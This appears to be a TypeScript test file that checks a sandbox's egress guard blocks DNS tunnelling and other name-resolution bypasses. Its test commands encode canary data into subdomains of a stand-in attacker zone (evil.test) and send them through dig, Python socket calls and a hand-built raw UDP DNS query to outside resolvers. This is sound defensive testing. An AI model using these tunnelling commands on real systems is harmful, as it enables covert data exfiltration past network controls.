/** Rows 1–6 and 16–21: questions and names. The far end's name servers are the oracle. */
import t from "tap"
import { canary, guarded, labFor, threeTimes, whyNoLab } from "./harness.ts"

t.setTimeout(240_000)
const skip = whyNoLab() ?? false

t.test("names", { skip, timeout: 240_000 }, async (t) => {
  const lab = await labFor(t)
  const allow = ["allowed.test"]
  const dig = (...argv: string[]): string[] => ["dig", "+tries=1", "+time=2", ...argv]

  await threeTimes(t, lab, {
    name: "row 1: a tunnel in the labels of a foreign zone",
    command: (word) => dig(`${word}.evil.test`, "@203.0.113.53"),
    allow,
    reasons: ["name-not-allowed"],
  })
  await threeTimes(t, lab, {
    name: "row 4: the name is judged before anybody is asked",
    command: (word) => [
      "python3",
      "-c",
      `import socket\ntry: socket.create_connection(("${word}.evil.test", 80), 3)\nexcept OSError: pass`,
    ],
    allow: ["allowed.test:80"],
    reasons: ["name-not-allowed"],
    vacuous: "the lab's machine has no resolver file; row 1 shows a question leaving",
  })
  await threeTimes(t, lab, {
    name: "row 5: another resolver, over UDP",
    command: (word) => dig(`${word}.evil.test`, "@203.0.113.66"),
    allow,
    reasons: ["name-not-allowed"],
  })
  await threeTimes(t, lab, {
    name: "row 6: another resolver, over TCP",
    command: (word) => dig("+tcp", `${word}.evil.test`, "@203.0.113.66"),
    allow,
    reasons: ["name-not-allowed"],
  })
  await threeTimes(t, lab, {
    name: "row 19: a resolver file written by the job",
    command: (word) => [
      "python3",
      "-c",
      // A client that reads no file at all is the strongest form of this.
      `import socket,struct
q=struct.pack(">HHHHHH",7,256,1,0,0,0)+b"".join(bytes([len(l)])+l.encode() for l in "${word}.evil.test".split("."))+b"\\0"+struct.pack(">HH",1,1)
s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(1); s.sendto(q,("203.0.113.66",53))
try: s.recv(512)
except Exception: pass`,
    ],
    allow,
    reasons: ["name-not-allowed"],
  })

  await t.test("row 16: other spellings of a name", async (t) => {
    for (const [name, wanted] of [
      ["ALLOWED.test.", "NOERROR"],
      ["allowed.test.evil.test", "NXDOMAIN"],
      ["evilallowed.test", "NXDOMAIN"],
      ["evil\\.allowed.test", "(NXDOMAIN|FORMERR|REFUSED)"],
      ["evil\\000.allowed.test", "(NXDOMAIN|FORMERR|REFUSED)"],
    ] as const) {
      const word = canary()
      const { stdout } = await guarded(lab, { mode: "block", allow }, dig(name))
      t.match(stdout, new RegExp(`status: ${wanted}`), name)
      t.strictSame(await lab.seen(word), [], name)
    }
  })
  await t.test("row 20: /etc/hosts cannot point an allowed name elsewhere", async (t) => {
    const word = canary()
    const url = `https://allowed.test/${word}`
    const curl = ["curl", "-sS", "-m", "5", "--cacert", lab.authorityFile]
    const { stdout, stderr, events } = await guarded(lab, { mode: "block", allow }, [
      ...curl,
      ...["--resolve", "allowed.test:443:198.51.100.66", url],
    ])
    t.match(stdout, /hello from allowed.test/, stderr)
    const flow = events.find((event) => event.kind === "flow")
    t.match(flow, {
      target: { address: "198.51.100.66" },
      dialled: { address: /^(198.51.100.10|2001:db8::10)$/ },
    })
  })
  await t.test("row 21: daemons that resolve for others are out of reach", async (t) => {
    const { stdout } = await guarded(lab, { mode: "block", allow }, [
      "sh",
      "-c",
      "ls -d /run/systemd/resolve /run/nscd /run/dbus/system_bus_socket /run/avahi-daemon /run/docker.sock 2>/dev/null; echo end",
    ])
    t.equal(stdout, "end\n")
  })
})
